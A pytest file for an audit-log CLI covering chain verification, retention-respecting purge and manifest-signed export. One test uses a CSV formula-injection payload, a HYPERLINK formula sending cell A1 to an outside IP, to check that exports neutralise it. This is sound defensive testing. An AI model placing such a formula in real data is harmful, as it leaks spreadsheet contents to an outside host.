"""``tongdao audit verify | purge | export``: against the store directly and a real server."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import Result
from fastapi import FastAPI
from typer.testing import CliRunner

from tests.conftest import TEST_DATA_KEY
from tests.support.live import serve
from tests.support.world import World
from tongdao.audit.models import AUDIT_EVENTS
from tongdao.audit.recorder import Actor, record
from tongdao.audit.retention import retention_cutoff
from tongdao.cli import app as cli_app
from tongdao.runtime import Runtime

Cli = Callable[..., Result]


@pytest.fixture
def run(tmp_path: Path, store_url: str) -> Cli:
    """``tongdao ARGS`` in process, with the test store's URL and data key in the environment."""
    runner = CliRunner()

    def invoke(*args: str, token: str | None = None, server: str | None = None) -> Result:
        env = {
            "TONGDAO_CONFIG_DIR": str(tmp_path / "config"),
            "TONGDAO_DATA_DIR": str(tmp_path),
            "TONGDAO_DATABASE_URL": store_url,
            "TONGDAO_DATA_KEY": TEST_DATA_KEY,
            "TONGDAO_SERVER": server,
            "TONGDAO_TOKEN": token,
        }
        result = runner.invoke(cli_app, list(args), env=env)
        assert "Traceback" not in result.output, result.output
        if result.exception is not None:
            assert isinstance(result.exception, SystemExit), repr(result.exception)
        return result

    return invoke


@pytest.fixture
def server_url(app: FastAPI) -> Iterator[str]:
    with serve(app) as url:
        yield url


def old_records(runtime: Runtime, n: int, days: int = 400) -> None:
    with runtime.db.session() as session:
        for i in range(n):
            record(
                session,
                "login",
                "user",
                actor=Actor(None, f"p{i}@a.example", "198.51.100.9"),
                occurred_at=datetime.now(UTC) - timedelta(days=days),
            )
        session.commit()


def test_verify_on_the_store_names_a_deleted_record(world: World, run: Cli) -> None:
    ok = run("audit", "verify", "--local")
    assert ok.exit_code == 0, ok.output
    assert "audit chain OK" in ok.stdout
    with world.runtime.db.engine.begin() as conn:
        conn.execute(sa.delete(AUDIT_EVENTS).where(AUDIT_EVENTS.c.seq == 4))
    broken = run("audit", "verify", "--local")
    assert broken.exit_code == 1
    assert "audit chain broken (deleted): record seq 4 deleted" in broken.stderr
    as_json = run("audit", "verify", "--local", "--json")
    assert as_json.exit_code == 1
    assert json.loads(as_json.stdout)["problem"]["seq"] == 4
    unreachable = run("audit", "verify", "--local", "--database-url", "nosuchdb://x")
    assert unreachable.exit_code == 1 and "cannot read the store" in unreachable.stderr


def test_verify_through_the_server_names_an_edited_record(
    world: World, run: Cli, server_url: str
) -> None:
    auditor = world.operators["auditor"].token
    assert run("audit", "verify", server=server_url, token=auditor).exit_code == 0
    with world.runtime.db.engine.begin() as conn:
        target = conn.execute(sa.select(AUDIT_EVENTS.c.id).where(AUDIT_EVENTS.c.seq == 2)).scalar()
        conn.execute(
            sa.update(AUDIT_EVENTS).where(AUDIT_EVENTS.c.id == target).values(object_id="x")
        )
    broken = run("audit", "verify", server=server_url, token=auditor)
    assert broken.exit_code == 1
    assert f"record seq 2 (id {target}) was edited" in broken.stderr
    denied = run("audit", "verify", server=server_url, token=world.a.admin.token)
    assert denied.exit_code == 1 and "do not allow read on audit_chain" in denied.stderr


def test_purge_keeps_the_retention_and_signs_a_checkpoint(runtime: Runtime, run: Cli) -> None:
    old_records(runtime, 3)
    old_records(runtime, 2, days=1)
    young = (retention_cutoff(datetime.now(UTC)) + timedelta(days=2)).date().isoformat()
    refused = run("audit", "purge", "--before", young, "--yes")
    assert refused.exit_code == 1
    assert "logs.retention" in refused.stderr and "Cybersecurity Law" in refused.stderr
    bad = run("audit", "purge", "--before", "last year", "--yes")
    assert bad.exit_code == 2 and "--before" in bad.stderr
    before = (datetime.now(UTC) - timedelta(days=300)).date().isoformat()
    done = run("audit", "purge", "--before", before, "--yes")
    assert done.exit_code == 0, done.output
    assert "purged 3 records (seq 1..3); signed checkpoint seq 6" in done.stdout
    again = run("audit", "purge", "--before", before, "--yes", "--json")
    assert again.exit_code == 0 and json.loads(again.stdout)["purged"] == 0
    ok = run("audit", "verify", "--local")
    assert ok.exit_code == 0, ok.output
    assert "after checkpoint seq 6 (purged through seq 3)" in ok.stdout
    with runtime.db.engine.begin() as conn:
        conn.execute(
            sa.update(AUDIT_EVENTS)
            .where(AUDIT_EVENTS.c.kind == "checkpoint")
            .values(signature="f" * 64)
        )
    forged = run("audit", "verify", "--local")
    assert forged.exit_code == 1 and "checkpoint seq 6" in forged.stderr


def test_export_writes_the_files_and_a_manifest(
    world: World, run: Cli, server_url: str, tmp_path: Path
) -> None:
    auditor = world.operators["auditor"].token
    out = tmp_path / "export"
    args = ("audit", "export", "--out", str(out), "--tenant", str(world.a.id))
    done = run(*args, "--format", "jsonl", server=server_url, token=auditor)
    assert done.exit_code == 0, done.output
    manifest = json.loads((out / "manifest.json").read_text())
    records = (out / "records.jsonl").read_bytes()
    assert hashlib.sha256(records).hexdigest() == manifest["files"][0]["sha256"]
    assert manifest["filters"]["tenant_id"] == str(world.a.id)
    lines = [json.loads(line) for line in records.decode().splitlines()]
    assert len(lines) == manifest["records"] > 0
    assert {line["tenant_id"] for line in lines} == {str(world.a.id)}
    assert "records.jsonl" in done.stdout and "manifest.json" in done.stdout
    # The same directory again: refused, nothing overwritten.
    again = run(*args, "--format", "jsonl", server=server_url, token=auditor)
    assert again.exit_code == 2 and "exists" in again.stderr
    bad_ip = run(
        *args[:3],
        str(tmp_path / "e2"),
        "--source-ip",
        "999.1.1.1",
        server=server_url,
        token=auditor,
    )
    assert bad_ip.exit_code == 1 and "source_ip" in bad_ip.stderr
    bad_format = run(
        *args[:3], str(tmp_path / "e3"), "--format", "xml", server=server_url, token=auditor
    )
    assert bad_format.exit_code == 2
    bad_since = run(
        *args[:3], str(tmp_path / "e4"), "--since", "soon", server=server_url, token=auditor
    )
    assert bad_since.exit_code == 2 and "--since" in bad_since.stderr


def test_a_csv_export_quotes_formula_cells_and_says_so(
    world: World, run: Cli, server_url: str, tmp_path: Path
) -> None:
    email = '=HYPERLINK("http://198.51.100.66/?d="&A1,"open")'
    resp = world.client.post("/api/v1/auth/login", json={"email": email, "password": "wrong"})
    assert resp.status_code == 401, resp.text
    out = tmp_path / "export"
    done = run(
        "audit",
        "export",
        "--out",
        str(out),
        server=server_url,
        token=world.operators["auditor"].token,
    )
    assert done.exit_code == 0, done.output
    manifest = json.loads((out / "manifest.json").read_text())
    written = (out / "records.csv").read_bytes()
    assert hashlib.sha256(written).hexdigest() == manifest["files"][0]["sha256"]
    assert manifest["csv_escaping"]["reverse"].startswith("drop one leading '")
    rows = list(csv.DictReader(io.StringIO(written.decode())))
    [failed] = [r for r in rows if r["action"] == "login_failed"]
    assert failed["actor"].startswith("'=")
    assert not any(c and c[0] in "=+-@\t\r" for r in rows for c in r.values())
